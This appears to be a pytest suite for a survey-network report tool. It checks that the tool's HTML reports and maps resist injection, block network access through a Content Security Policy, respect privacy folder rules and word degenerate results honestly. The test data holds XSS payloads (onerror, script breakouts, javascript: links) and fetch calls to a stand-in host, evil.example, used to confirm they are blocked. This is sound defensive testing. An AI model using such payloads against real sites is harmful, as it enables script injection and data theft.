"""Adversarial review of ``senatenet report`` and the map: injection, offline,
privacy folder rules and honest wording on degenerate surveys."""

from __future__ import annotations

import csv
import html
import json
import os
import re
import time
from pathlib import Path

import pandas as pd
import pytest

import senatenet as sn
from senatenet.cli import main

# Each payload sets a flag when it runs, so execution is detected even inside
# the sandboxed srcdoc iframe, where alert() is silently blocked.
PAYLOADS = (
    "<img src=x onerror=window.__pwn=1;alert(1)>",
    "</script><script>window.__pwn=2;alert(2)</script>",
    '"><svg onload=window.__pwn=3;alert(3)>',
    "javascript:window.__pwn=4",
    "{{7*7}} ${7*7}",
    "a\u2028b\u2029c",
    '<a href="javascript:window.__pwn=5">href</a>',
    "</style><img src=x onerror=window.__pwn=6>",
    '<base href="http://evil.example/">',
    "<link rel=prefetch href=http://evil.example/x>",
    "L" * 2000,
)
ORGS = (PAYLOADS[0], PAYLOADS[1], PAYLOADS[2], PAYLOADS[7])
BEFORE, AFTER, RELATION = PAYLOADS[1], PAYLOADS[3], PAYLOADS[0]
TITLE = "<img src=x onerror=window.__pwn=9>{{7*7}}"
PERMUTATIONS = "9"
INJECTED = (
    "img[src='x'], svg[onload], base, link, a[href^='javascript'], "
    "iframe:not(#map-frame), script[src]"
)


def payload_files(folder: Path) -> tuple[Path, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    people = [
        {
            "person_id": f"p{i:02d}",
            "name": f"{PAYLOADS[i % len(PAYLOADS)]} {i}",
            "organisation": ORGS[i % len(ORGS)],
            "role": PAYLOADS[(i + 3) % len(PAYLOADS)],
            "sector": PAYLOADS[(i + 5) % len(PAYLOADS)],
            "notes": PAYLOADS[(i + 7) % len(PAYLOADS)],
        }
        for i in range(12)
    ]
    roster = folder / "roster <img src=x onerror=alert(1)>.csv"
    ties = folder / "ties.csv"
    with roster.open("w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=list(people[0]))
        w.writeheader()
        w.writerows(people)
    with ties.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["wave", "respondent", "alter", "relation"])
        for wave, step in ((BEFORE, 1), (AFTER, 5)):
            for i in range(12):
                for d in (step, step + 2):
                    w.writerow([wave, f"p{i:02d}", f"p{(i + d) % 12:02d}", RELATION])
    return roster, ties


def run(args, capsys) -> tuple[int, str, str]:
    code = main(["report", "--quiet", *map(str, args)])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.fixture(scope="module")
def payload_report(tmp_path_factory):
    base = tmp_path_factory.mktemp("payloads")
    roster, ties = payload_files(base / "in")
    out = base / "out"
    cwd = Path.cwd()
    os.chdir(base)  # anything written to the working directory would land here
    try:
        code = main(
            [
                "report",
                "--quiet",
                "--roster",
                str(roster),
                "--ties",
                str(ties),
                "--before",
                BEFORE,
                "--after",
                AFTER,
                "--title",
                TITLE,
                "--permutations",
                PERMUTATIONS,
                "--power-simulations",
                "20",
                "--out",
                str(out),
            ]
        )
    finally:
        os.chdir(cwd)
    assert code == 0
    return out


def test_nothing_is_written_outside_the_output_folder(payload_report):
    base = payload_report.parent
    assert sorted(p.name for p in base.iterdir()) == ["in", "out"]
    assert not (payload_report / "lib").exists()


def _pages(out: Path) -> dict[str, str]:
    report = (out / "report.html").read_text(encoding="utf-8")
    srcdoc = re.search(r'srcdoc="([^"]*)"', report)
    assert srcdoc, "the report embeds the map as an iframe srcdoc"
    return {
        "report.html": report,
        "map.html": (out / "map.html").read_text(encoding="utf-8"),
        "srcdoc": html.unescape(srcdoc.group(1)),
    }


def test_every_page_has_a_csp_that_forbids_the_network(payload_report):
    for name, page in _pages(payload_report).items():
        csp = re.search(
            r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"', page
        )
        assert csp, name
        rules = dict(
            (part.split()[0], part.split()[1:])
            for part in html.unescape(csp.group(1)).split(";")
            if part.strip()
        )
        assert rules["default-src"] == ["'none'"], name
        assert rules["base-uri"] == ["'none'"], name
        assert rules["form-action"] == ["'none'"], name
        assert "connect-src" not in rules or rules["connect-src"] == ["'none'"]
        assert rules["img-src"] == ["data:"], name


def test_no_payload_lands_raw_and_nothing_points_to_the_network(payload_report):
    for name, page in _pages(payload_report).items():
        for raw in (
            "<img src=x",
            "<svg onload",
            "<script>window",
            "<base",
            '<a href="javascript',
        ):
            assert raw not in page, (name, raw)
        # attributes that could fetch: only data: URIs and in-page anchors
        for url in re.findall(
            r'\b(?:src|href|srcset|action|poster)\s*=\s*"([^"]*)"', page, re.I
        ):
            assert url.startswith(("data:", "#")), (name, url[:80])
        assert not re.search(r"url\(\s*['\"]?(?:https?:|//)", page, re.I), name
        assert "@import" not in page, name
        assert not re.search(r"<link\b", page, re.I), name


def test_long_labels_are_cut_on_the_map_but_kept_in_tooltips(payload_report):
    page = _pages(payload_report)["map.html"]
    data = json.loads(
        re.search(
            r'<script type="application/json" id="sn-data">(.*?)</script>', page, re.S
        ).group(1)
    )
    long = [n for n in data["nodes"] if n["title"].startswith("L" * 2000)]
    assert long
    for n in long:
        assert len(n["label"]) <= 60 and n["label"].endswith("\u2026")
    assert all(len(n["label"]) <= 60 for n in data["nodes"])


# ---- in a browser -------------------------------------------------------------


@pytest.fixture(scope="module")
def chromium():
    from browser import launch

    with launch(width=1280, height=900) as browser:
        yield browser


def _assert_inert(page, where):
    assert page.run("return window.__pwn === undefined"), where
    assert page.run(f"return document.querySelectorAll({INJECTED!r}).length") == 0, (
        where
    )


@pytest.mark.browser
def test_payloads_do_not_execute_in_the_report_or_its_map(payload_report, chromium):
    page = chromium.open(
        payload_report / "report.html", ready="document.readyState === 'complete'"
    )
    assert page.run("return document.title") == TITLE
    assert page.run("return document.querySelector('header h1').textContent") == TITLE
    _assert_inert(page, "report.html")
    assert page.alerts() == []
    page.run("document.getElementById('map-frame').scrollIntoView()")
    page.driver.switch_to.frame(page.driver.find_element("id", "map-frame"))
    page.wait_for("window.senatenetMap && window.senatenetMap.ready")
    _assert_inert(page, "srcdoc map")
    assert page.run("return document.getElementById('sn-heading').textContent") == TITLE
    orgs = page.run(
        "return Array.from(document.querySelectorAll('.sn-org-name'))"
        ".map(function (e) { return e.textContent; })"
    )
    assert sorted(orgs) == sorted(ORGS)
    # the CSP holds inside the iframe too: even script that tries cannot fetch
    page.run(
        "window.__csp = [];"
        "document.addEventListener('securitypolicyviolation', function (e) {"
        "  window.__csp.push(e.violatedDirective + ' ' + e.blockedURI); });"
        "new Image().src = 'http://evil.example/pixel.png';"
        "fetch('http://evil.example/data').catch(function () {});"
    )
    blocked = page.wait_for("window.__csp.length >= 2 && window.__csp")
    assert "img-src http://evil.example/pixel.png" in blocked
    assert "connect-src http://evil.example/data" in blocked
    page.driver.switch_to.default_content()
    time.sleep(0.5)
    assert page.requests() == []
    assert page.console_errors() == []
    # in the report itself: Chromium logs the attempt, and the CSP blocks it
    page.run("new Image().src = 'http://evil.example/top.png';")
    time.sleep(0.5)
    assert page.requests() == ["http://evil.example/top.png"]
    assert any(
        "violates the following Content Security Policy" in e
        and "has been blocked" in e
        for e in page.console_errors()
    )


@pytest.mark.browser
def test_payloads_do_not_execute_in_map_html_and_search_finds_long_names(
    payload_report, chromium
):
    page = chromium.open(
        payload_report / "map.html", ready="window.senatenetMap && senatenetMap.ready"
    )
    _assert_inert(page, "map.html")
    assert page.alerts() == []
    views = page.run(
        "return Array.from(document.querySelectorAll('#sn-views label'))"
        ".map(function (e) { return e.textContent; })"
    )
    assert any(BEFORE in v for v in views) and any(AFTER in v for v in views)
    # a name longer than the drawn label is still found by its full text
    found = page.run("return senatenetMap.search(arguments[0])", "L" * 2000 + " 10")
    assert found == ["p10"]
    # tooltips stay plain text: vis-network puts the title in with innerText
    page.run("senatenetMap.network.selectNodes(['p00'])")
    _assert_inert(page, "map.html after search")
    assert page.console_errors() == []
    assert page.requests() == []


# ---- privacy: what a shared folder may hold -----------------------------------


@pytest.fixture
def sample_files(tmp_path):
    src = Path(sn.__file__).parent / "sample_data" / "senate"
    if not src.is_dir():
        src = Path(__file__).parents[1] / "data" / "sample" / "senate"
    folder = tmp_path / "survey"
    folder.mkdir()
    for name in ("roster.csv", "ties.csv", "respondents.csv"):
        (folder / name).write_bytes((src / name).read_bytes())
    return folder


def _args(folder: Path, out: Path, *extra) -> list[str]:
    return [
        "--roster",
        folder / "roster.csv",
        "--ties",
        folder / "ties.csv",
        "--respondents",
        folder / "respondents.csv",
        "--before",
        "pre",
        "--after",
        "post",
        "--relation",
        "advice",
        "--permutations",
        PERMUTATIONS,
        "--power-simulations",
        "20",
        "--out",
        out,
        *extra,
    ]


def test_key_file_inside_the_output_folder_is_refused(sample_files, tmp_path, capsys):
    out = tmp_path / "shared"
    out.mkdir()
    key = out / "senate.key"
    key.write_text("a private key of at least sixteen bytes\n")
    code, _, err = run(
        _args(sample_files, out, "--pseudonymise", "--key-file", key), capsys
    )
    assert code == 2
    assert "key file is inside the output folder" in err
    assert "Traceback" not in err
    assert sorted(p.name for p in out.iterdir()) == ["senate.key"]


def test_named_survey_inside_a_pseudonymised_output_folder_is_refused(
    sample_files, tmp_path, capsys, figures_not_rendered
):
    key = tmp_path / "senate.key"
    key.write_text("a private key of at least sixteen bytes\n")
    code, _, err = run(
        _args(sample_files, sample_files, "--pseudonymise", "--key-file", key), capsys
    )
    assert code == 2
    assert "roster file (with real names) is inside the output folder" in err
    assert not (sample_files / "report.html").exists()
    # without pseudonyms the folder is not meant for sharing: allowed
    code, _, err = run(_args(sample_files, sample_files), capsys)
    assert code == 0, err
    assert figures_not_rendered  # the figures were drawn, on this data


# ---- wording on degenerate surveys ----------------------------------------------


def _headlines(out: Path) -> str:
    report = (out / "report.html").read_text(encoding="utf-8")
    report = re.sub(r'srcdoc="[^"]*"', "", report)
    verdict = re.search(r'<p class="verdict" id="verdict">(.*?)</p>', report, re.S)
    items = re.findall(r'<ul class="findings">(.*?)</ul>', report, re.S)
    return html.unescape(verdict.group(1) + " " + " ".join(items))


def test_a_wave_without_ties_is_described_without_gaps_or_nan(
    sample_files, tmp_path, capsys, figures_not_rendered
):
    ties = pd.read_csv(sample_files / "ties.csv", dtype=str, keep_default_na=False)
    ties[ties["wave"] == "pre"].to_csv(sample_files / "ties.csv", index=False)
    out = tmp_path / "out"
    code, _, err = run(_args(sample_files, out), capsys)
    assert code == 0, err
    text = _headlines(out)
    assert "nan" not in text.lower().split()
    assert "QAP correlation nan" not in text
    assert "were  (" not in text and "were (" not in text
    assert "0.0 times as likely" not in text
    # the findings of the comparison, as str(cmp) words them
    assert re.search(r"moved from −0\.\d+ to undefined", text) or "not defined" in text
    assert "QAP correlation +" not in text and "QAP correlation −" not in text
    # the verdict: a single cohort whose cross-organisation ties all vanished is
    # never a programme effect, and its interval is stated
    assert text.startswith(("No clear change:", "Change, not attributable:",
                            "Inconclusive:"))
    assert "95% CI" in text
    assert figures_not_rendered  # the figures were drawn, on this data


def test_suppressed_organisation_is_not_named_as_lowest_response(
    sample_files, tmp_path, capsys, figures_not_rendered
):
    roster = pd.read_csv(sample_files / "roster.csv", dtype=str, keep_default_na=False)
    resp = pd.read_csv(
        sample_files / "respondents.csv", dtype=str, keep_default_na=False
    )
    solo = roster.loc[0, "person_id"]
    roster.loc[0, "organisation"] = "Solo Practice"
    roster.to_csv(sample_files / "roster.csv", index=False)
    resp[~((resp["person_id"] == solo) & (resp["wave"] == "post"))].to_csv(
        sample_files / "respondents.csv", index=False
    )
    out = tmp_path / "plain"
    assert run(_args(sample_files, out), capsys)[0] == 0
    assert "Response was lowest in Solo Practice (0%" in _headlines(out)
    out = tmp_path / "suppressed"
    assert run(_args(sample_files, out, "--suppress-below", "2"), capsys)[0] == 0
    assert "Solo Practice (0%" not in _headlines(out)
    rates = pd.read_csv(out / "tables" / "response_rates.csv", dtype=str)
    solo_rows = rates[rates["organisation"] == "Solo Practice"]
    assert (solo_rows["suppressed"] == "True").all()
    assert solo_rows["response_rate"].isna().all()
    assert figures_not_rendered  # the figures were drawn, on this data


def test_options_that_leave_no_tie_give_a_clear_report(sample_files, tmp_path, capsys, figures_not_rendered):
    out = tmp_path / "out"
    code, _, err = run(_args(sample_files, out, "--min-strength", "99"), capsys)
    assert code == 0, err
    assert "Traceback" not in err
    text = _headlines(out)
    assert text.startswith("Nothing to compare")
    assert "--min-strength" in text
    assert figures_not_rendered  # the figures were drawn, on this data


def test_a_negative_seed_is_refused(sample_files, tmp_path, capsys):
    code, _, err = run(_args(sample_files, tmp_path / "out", "--seed", "-1"), capsys)
    assert code == 2
    assert "seed must be a whole number >= 0" in err
    assert "Traceback" not in err


def test_a_roster_with_one_organisation_is_refused(sample_files, tmp_path, capsys):
    roster = pd.read_csv(sample_files / "roster.csv", dtype=str, keep_default_na=False)
    roster["organisation"] = "One Trust"
    roster.to_csv(sample_files / "roster.csv", index=False)
    code, _, err = run(_args(sample_files, tmp_path / "out"), capsys)
    assert code == 2
    assert "needs at least two" in err
    assert "Traceback" not in err


def test_a_wave_nobody_answered_is_flagged_not_blamed_on_one_organisation(
    sample_files, tmp_path, capsys, figures_not_rendered
):
    resp = pd.read_csv(sample_files / "respondents.csv", dtype=str)
    resp[resp["wave"] == "pre"].to_csv(sample_files / "respondents.csv", index=False)
    out = tmp_path / "out"
    assert run(_args(sample_files, out), capsys)[0] == 0
    text = _headlines(out)
    assert "Nobody is listed as answering in wave “post”, yet the ties file" in text
    assert "Response was lowest" not in text
    assert figures_not_rendered  # the figures were drawn, on this data


def test_control_characters_in_survey_text_keep_every_file_readable(
    sample_files, tmp_path, capsys
):
    import xml.etree.ElementTree as ET

    roster = pd.read_csv(sample_files / "roster.csv", dtype=str, keep_default_na=False)
    roster.loc[0, "name"] = "Imogen\x0bThistle\x01wood"  # a vertical tab from Excel
    roster.loc[1, "role"] = "lead\x1b[31m"
    roster.to_csv(sample_files / "roster.csv", index=False)
    out = tmp_path / "out"
    code, _, err = run(_args(sample_files, out, "--svg"), capsys)
    assert code == 0, err
    svgs = sorted((out / "figures").glob("*.svg"))
    assert svgs
    for svg in svgs:
        ET.parse(svg)  # well-formed XML, so the figure opens
    json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    people = pd.read_excel(
        out / "tables" / "senatenet-tables.xlsx", sheet_name="people", dtype=str
    )
    assert len(people) == len(roster)


def test_an_unrelated_manifest_in_the_output_folder_deletes_nothing(
    sample_files, tmp_path, capsys, figures_not_rendered
):
    out = tmp_path / "project"
    (out / "tables").mkdir(parents=True)
    (out / "src").mkdir()
    keep = [out / "notes.txt", out / "tables" / "mine.csv", out / "src" / "code.py"]
    for f in keep:
        f.write_text("precious")
    listed = {str(f.relative_to(out).as_posix()): "" for f in keep}
    (out / "manifest.json").write_text(json.dumps({"outputs": listed}))
    assert run(_args(sample_files, out), capsys)[0] == 0
    assert all(f.read_text() == "precious" for f in keep)
    # a senatenet manifest listing files no report writes: still untouched
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    manifest["outputs"].update({"src/code.py": "", "notes.txt": ""})
    (out / "manifest.json").write_text(json.dumps(manifest))
    (out / "figures" / "old.png").write_bytes(b"x")
    manifest["outputs"]["figures/old.png"] = ""
    (out / "manifest.json").write_text(json.dumps(manifest))
    assert run(_args(sample_files, out), capsys)[0] == 0
    assert all(f.read_text() == "precious" for f in keep)
    assert not (out / "figures" / "old.png").exists()  # a report's own file goes
    assert figures_not_rendered  # the figures were drawn, on this data


def test_a_clear_fall_is_reported_as_a_fall(sample_files, tmp_path, capsys, figures_not_rendered):
    out = tmp_path / "out"
    args = _args(sample_files, out, "--permutations", "99")
    args[args.index("--before") + 1], args[args.index("--after") + 1] = "post", "pre"
    assert run(args, capsys)[0] == 0
    text = _headlines(out)
    tests = pd.read_csv(out / "tables" / "tests.csv")
    swap = tests[tests["test"].str.contains("swapped")].iloc[0]
    assert swap["observed"] < 0 and swap["p_less"] < 0.05
    # the verdict: a single cohort's fall, stated as change with its interval
    assert text.startswith("Change, not attributable: ")
    assert "changed by -" in text.split(".")[0] and "95% CI" in text
    assert "Ties between organisations fell from" in text
    # the E-I change finding quotes the p-value of the direction observed
    shown = "p < 0.001" if swap["p_less"] < 0.001 else f"p = {swap['p_less']:.2g}"
    assert f"E-I change −{abs(swap['observed']):.2f}, {shown}" in text
    assert figures_not_rendered  # the figures were drawn, on this data


def _map_labels(out: Path) -> set[str]:
    page = (out / "map.html").read_text(encoding="utf-8")
    data = re.search(
        r'<script type="application/json" id="sn-data">(.*?)</script>', page
    )
    return {n["label"] for n in json.loads(data.group(1))["nodes"]}


def test_map_and_tables_share_the_keyed_codes_and_another_key_gives_others(
    sample_files, tmp_path, capsys, figures_not_rendered
):
    codes = {}
    for name, secret in (
        ("a", "first private key 0123456789"),
        ("b", "second key 9876543210!"),
    ):
        key = tmp_path / f"{name}.key"
        key.write_text(secret)
        out = tmp_path / f"out-{name}"
        extra = ("--pseudonymise", "--key-file", key)
        assert run(_args(sample_files, out, *extra), capsys)[0] == 0
        people = pd.read_csv(out / "tables" / "people.csv", dtype=str)
        assert _map_labels(out) == set(people["person_id"]) == set(people["name"])
        expected = {sn.pseudonym(p, secret) for p in sn.load_sample().people.index}
        assert set(people["person_id"]) == expected
        codes[name] = set(people["person_id"])
    assert not codes["a"] & codes["b"]
    assert figures_not_rendered  # the figures were drawn, on this data
